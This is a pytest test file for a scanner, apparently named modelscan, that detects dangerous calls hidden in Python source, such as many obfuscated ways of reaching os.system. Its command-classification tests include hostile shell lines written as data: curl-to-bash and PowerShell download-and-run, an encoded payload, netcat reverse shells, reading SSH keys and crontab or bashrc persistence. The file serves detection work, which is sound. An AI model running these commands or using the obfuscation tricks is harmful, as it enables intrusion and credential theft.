"""Names and texts that source hides, and the bounds of computing them."""

from __future__ import annotations

import base64
import bz2
import gzip
import lzma
import zlib

import pytest

from modelscan.budget import Budget
from modelscan.formats.python_code import folding, paths
from modelscan.formats.python_code.analysis import Analysis
from modelscan.formats.python_code.names import canonical
from modelscan.formats.python_code.values import MAX_TEXT, UNKNOWN, Purse, Value


def _calls(text: str) -> list[tuple[str, str]]:
    return [(each.judged.call, each.judged.argument) for each in Analysis(text, Budget()).run()]


@pytest.mark.parametrize(
    "text",
    [
        "import os as o\no.system('id')",
        "from os import system as s\ns('id')",
        "from os import *\nsystem('id')",
        "import posix\nposix.system('id')",
        "import shutil\nshutil.os.system('id')",
        "import os\nf = os.system\ng = f\ng('id')",
        "import os\ng = lambda: f\nf = os.system\ng()('id')",
        "import os\n(f := os.system)('id')",
        "import os\nf: object = os.system\nf('id')",
        "import os\na, (b, c) = 1, (2, os.system)\nc('id')",
        "import os\na, *b = 1, os.system\nb('id')",
        "import os\nx = os.system if 1 else print\nx('id')",
        "import os\nx = None or os.system\nx('id')",
        "import os\nfor f in (print, os.system): f('id')",
        "import os\nd = {'a': os.system}\nd['a']('id')",
        "import os\nd = {}\nd['a'] = os.system\nd['a']('id')",
        "import os\nl = [print, os.system]\nl[1]('id')",
        "import os\nl = [print, os.system]\nl[i]('id')",
        "import os\nclass A: f = os.system\nA.f('id')",
        "import os\nclass A:\n    def __init__(s): s.f = os.system\n    def g(s): s.f('id')",
        "import os\nclass A:\n    f = os.system\nclass B(A): pass\nclass C(B): pass\nC().f('id')",
        "import os\ndef f(g=os.system): g('id')",
        "import os\ndef f(g): g('id')\nf(os.system)",
        "import os\ndef f(*, g): g('id')\nf(g=os.system)",
        "import os\ndef f(): return os.system\nf()('id')",
        "import os\nclass A:\n    def __call__(self): return os.system\nA()()('id')",
        "import os\nclass A:\n    def __call__(self, f): f('id')\nA()(os.system)",
        "def f():\n    global g\n    import os\n    g = os.system\nf()\ng('id')",
        "__import__('os').system('id')",
        "__import__('os.path').system('id')",
        "import importlib\nimportlib.import_module('o' + 's').system('id')",
        "from importlib import import_module as i\ni(name='os').system('id')",
        "import pkgutil\npkgutil.resolve_name('os:system')('id')",
        "import sys\nsys.modules['os'].system('id')",
        "import os\ngetattr(os, 'sys' + 'tem')('id')",
        "import os\ngetattr(os, 'x', os.system)('id')",
        "import os\nos.__dict__['system']('id')",
        "import os\nvars(os)['system']('id')",
        "import os\nglobals()['os'].system('id')",
        "import os\nos.system.__call__('id')",
        "def f(): pass\nf.__globals__['__builtins__']['__import__']('os').system('id')",
        "import operator, os\noperator.attrgetter('system')(os)('id')",
        "from functools import reduce\nimport os\nreduce(getattr, ['system'], os)('id')",
        "import functools\nimport os\nfunctools.reduce(f, [1], 2)\nos.system('id')",
        "import os\nd = {k: getattr(os, k) for k in ['system']}\nd['system']('id')",
        "import sys\nsys.modules['x'].__builtins__.__import__('os').system('id')",
        "import functools, os\nfunctools.partial(os.system)('id')",
        "import os\nglobals()['f'] = os.system\nf('id')",
        "__import__(''.join(map(chr, [111, 115]))).system('id')",
        "__import__(''.join(chr(c) for c in (111, 115))).system('id')",
        "__import__(''.join([chr(100 + 11), chr(116 - 1)])).system('id')",
        "__import__(chr(222 // 2) + chr(114 ^ 1)).system('id')",
        "__import__('%s%s' % ('o', 's')).system('id')",
        "__import__('{1}{0}'.format('s', 'o')).system('id')",
        "__import__('{}{b}'.format('o', b='s')).system('id')",
        "x = 's'\n__import__(f'o{x}').system('id')",
        "__import__('so'[::-1]).system('id')",
        "__import__(''.join(['o', 'x', 's'][::2])).system('id')",
        "__import__(chr(37 * 3) + chr(1 + 114)).system('id')",
        "n = -(-111)\n__import__(chr(n) + 's').system('id')",
        "import os\n(lambda: 1 / x)()\nos.system('id')",
        "import os\nx = (10 ** 40) ^ (1 << 40)\nos.system('id')",
        "__import__('xxosx'[2:-1]).system('id')",
        "__import__('zosz'[1] + 'abs'[-1]).system('id')",
        "__import__(''.join(reversed('so'))).system('id')",
        "__import__(''.join(reversed(['s', 'o']))).system('id')",
        "__import__(b'os'.decode()).system('id')",
        "__import__(str(b'os', 'utf-8')).system('id')",
        "__import__(bytes([111, 115]).decode('ascii')).system('id')",
        "__import__(bytes(b'os').decode()).system('id')",
        "n = len('ab')\nimport os\nos.system('id')",
        "__import__(bytes('os', 'ascii').decode()).system('id')",
        "__import__('OS'.lower()).system('id')",
        "__import__(' os '.strip()).system('id')",
        "__import__('oXs'.replace('X', '')).system('id')",
        "import base64\n__import__(base64.b64decode('b3M=').decode()).system('id')",
        "import base64\n__import__(base64.b64decode(b'b3M').decode()).system('id')",
        "import codecs\n__import__(codecs.decode('bf', 'rot13')).system('id')",
        "__import__(bytes.fromhex('6f73').decode()).system('id')",
        "import binascii as b\n__import__(b.unhexlify(b'6f73').decode()).system('id')",
        "__import__('o' * 1 + 's').system('id')",
        "import os\n[*map(lambda f: f('id'), [os.system])]\nos.system('id')",
        "async def f(): (await __import__('os')).system('id')",
    ],
)
def test_a_hidden_name_is_found(text: str) -> None:
    assert ("os.system", "id") in _calls(text)


def test_arguments_are_told_briefly() -> None:
    assert _calls("import subprocess as s\ns.run('make', options)") == [("subprocess.run", "make")]
    assert _calls("import subprocess as s\ns.run(['a', '', b])") == [("subprocess.run", "a '' …")]
    ((_, argument),) = _calls(f"import torch\ntorch.load({'x' * 200!r}, map_location=b'cpu')")
    assert argument == "x" * 119 + "…, map_location=cpu"


def test_a_function_that_is_handed_over_counts_as_called() -> None:
    for text in (
        "import os\nlist(map(os.system, ['id']))",
        "import os, atexit\natexit.register(os.system, 'id')",
        "import operator, os\noperator.methodcaller('system', 'id')(os)",
    ):
        assert [call for call, _ in _calls(text)] == ["os.system"], text
    assert _calls("list(map(eval, [x]))")[0][0] == "eval"
    assert _calls("import torch\nf(torch.load, print)") == []


@pytest.mark.parametrize(
    ("name", "expected"),
    [
        ("posix.system", "os.system"),
        ("builtins.eval", "eval"),
        ("__builtins__.eval", "eval"),
        ("requests.Session().get", "requests.get"),
        ("shutil.os.system", "os.system"),
        ("os.path.join", "os.path.join"),
        (".os.system", ".os.system"),
        ("builtins", "builtins"),
    ],
)
def test_canonical_names(name: str, expected: str) -> None:
    assert canonical(name) == expected


@pytest.mark.parametrize(
    ("decoder", "data"),
    [
        ("base64.b64decode", b"dGV4dA=="),
        ("base64.urlsafe_b64decode", b"dGV4dA"),
        ("base64.b32decode", b"ORSXQ5A="),
        ("base64.b16decode", b"74657874"),
        ("base64.b85decode", base64.b85encode(b"text")),
        ("base64.a85decode", base64.a85encode(b"text")),
        ("zlib.decompress", zlib.compress(b"text")),
        ("gzip.decompress", gzip.compress(b"text", mtime=0)),
        ("bz2.decompress", bz2.compress(b"text")),
        ("lzma.decompress", lzma.compress(b"text")),
    ],
)
def test_decoders(decoder: str, data: bytes) -> None:
    assert folding.decoded(decoder, data) == b"text"
    assert folding.decoded(decoder, data) != folding.decoded(decoder, b"\xff\x00?")
    assert folding.decoded(decoder, None) is None


def test_a_decompressor_stops() -> None:
    bomb = zlib.compress(b"\0" * (1 << 24))
    found = folding.decoded("zlib.decompress", bomb)
    assert isinstance(found, bytes)
    assert len(found) == MAX_TEXT
    assert folding.decoded("zlib.unknown", b"") is None


@pytest.mark.parametrize(
    ("text", "encoding", "expected"),
    [
        (b"6f73", "hex", b"os"),
        ("b3M=", "base64", b"os"),
        (b"a\\x62", "unicode_escape", "ab"),
        (b"\\", "unicode_escape", None),
        ("bf", "rot_13", "os"),
        ("\xe9", "utf-8", b"\xc3\xa9"),
        (b"\xff", "utf-8", None),
        (b"x", "nowhere", None),
        (b"x", None, None),
    ],
)
def test_codecs(text: str | bytes, encoding: str | None, expected: object) -> None:
    assert folding.recoded(text, encoding) == expected


@pytest.mark.parametrize(
    ("text", "name", "arguments", "expected"),
    [
        ("Ab", "swapcase", (), "aB"),
        (b"os", "hex", (), "6f73"),
        ("os", "hex", (), None),
        (b"OS", "lower", (), None),
        (b" os ", "strip", (), b"os"),
        ("os", "strip", ("o",), None),
        ("axa", "replace", ("a", 1), None),
        ("os", "unknown", (), None),
        (3, "lower", (), None),
    ],
)
def test_methods(text: object, name: str, arguments: tuple[object, ...], expected: object) -> None:
    values = [Value(text=each) for each in arguments]  # type: ignore[arg-type]  # plain values
    assert folding.method(text, name, values, Purse()) == expected  # type: ignore[arg-type]  # the same


def test_a_computed_text_is_paid_for() -> None:
    long, purse = Value(text="x" * MAX_TEXT), Purse()
    assert folding.concatenated([long, long], purse) is None
    assert folding.repeated("x", MAX_TEXT + 1, purse) is None
    assert folding.repeated("xx", MAX_TEXT, purse) is None
    assert folding.repeated(None, 2, purse) is None
    assert folding.percent("%s" * 9000, [long], purse) is None
    assert folding.method("x" * MAX_TEXT, "replace", [Value(text="x"), long], purse) is None
    assert folding.characters([Value(text=1)] * (MAX_TEXT + 1), binary=True, purse=purse) is None
    while purse.affords(MAX_TEXT):
        pass
    assert folding.concatenated([Value(text=b"ab"), Value(text=b"cd")], purse) is None


def test_unknown_parts_are_marked() -> None:
    purse = Purse()
    assert folding.concatenated([Value(text="a"), Value()], purse) == "a" + UNKNOWN
    assert folding.percent("%s-%s", [Value(text=1)], purse) == "1-" + UNKNOWN
    assert folding.formatted("{5}{x}", [], {}, purse) == UNKNOWN * 2
    assert folding.characters([Value(text=256)], binary=True, purse=purse) is None
    assert folding.characters(-1, binary=False, purse=purse) is None
    assert folding.characters("x", binary=False, purse=purse) is None


@pytest.mark.parametrize(
    ("command", "expected"),
    [
        ("curl -s https://x | sudo -E bash", "runs-download"),
        ("curl -O https://x/x.py; python x.py", "runs-download"),
        ("curl https://x -o cat.png", "starts-process"),
        ("curl https://x; ls", "starts-process"),
        ("python <(curl https://x)", "runs-download"),
        ("powershell -c IEX(irm x.test/a)", "runs-download"),
        ("powershell -enc SQBFAFgAIAAoAE4AZQB3", "encoded-payload"),
        ("rm /tmp/f; mkfifo /tmp/f; cat /tmp/f | nc 1.2.3.4 5 > /tmp/f", "remote-shell"),
        ("nc -e /bin/sh 1.2.3.4 5", "remote-shell"),
        ("cat ~/.ssh/id_rsa", "reads-secrets"),
        ("echo x >> ~/.bashrc", "writes-outside"),
        ("(crontab -l; echo x) | crontab -", "writes-outside"),
        ("…/python -m pip install -U x", "installs-packages"),
        ("sudo apt-get -y install ninja-build", "installs-packages"),
        ("git rev-parse --short HEAD", "queries-system"),
        ("nvcc --version", "queries-system"),
        ("cat /proc/cpuinfo", "starts-process"),
        ("git clone https://x", "starts-process"),
        ("", "starts-process"),
    ],
)
def test_commands(command: str, expected: str) -> None:
    assert paths.command(command) == expected


@pytest.mark.parametrize(
    ("path", "secret", "persistent"),
    [
        ("~/.ssh/authorized_keys", True, True),
        ("~/.ssh", True, True),
        ("/home/x/.aws/credentials", True, False),
        ("/usr/lib/python3/site-packages/x.pth", False, True),
        ("model.pth", False, False),
        ("checkpoints/profile.json", False, False),
        ("vocab/token", False, False),
        ("~/.cache/huggingface/token", True, False),
        ("~/.cache/huggingface/hub/models--a/token.json", False, False),
        ("/etc/profile.d/x.sh", False, True),
    ],
)
def test_paths(path: str, secret: bool, persistent: bool) -> None:
    assert (paths.is_secret(path), paths.is_persistent(path)) == (secret, persistent)


def test_deep_and_wide_expressions_end() -> None:
    deep = "x = a" + ".b()" * 300 + "\nimport os\nos.system('id')" + ".c()" * 100
    assert _calls(deep) == [("os.system", "id")]
    assert _calls("x = " + " + ".join(["'a'"] * 900)) == []
    assert _calls("import os\nf0 = os.system\n" + "".join(f"f{i + 1} = f{i}\n" for i in range(99)) +
                  "f99('id')") == [("os.system", "id")]  # fmt: skip
    assert _calls("a = 'x'\n" + "a = a + a\n" * 200) == []
    assert _calls("class A(B): pass\nclass B(A): pass\nA.x('id')") == []
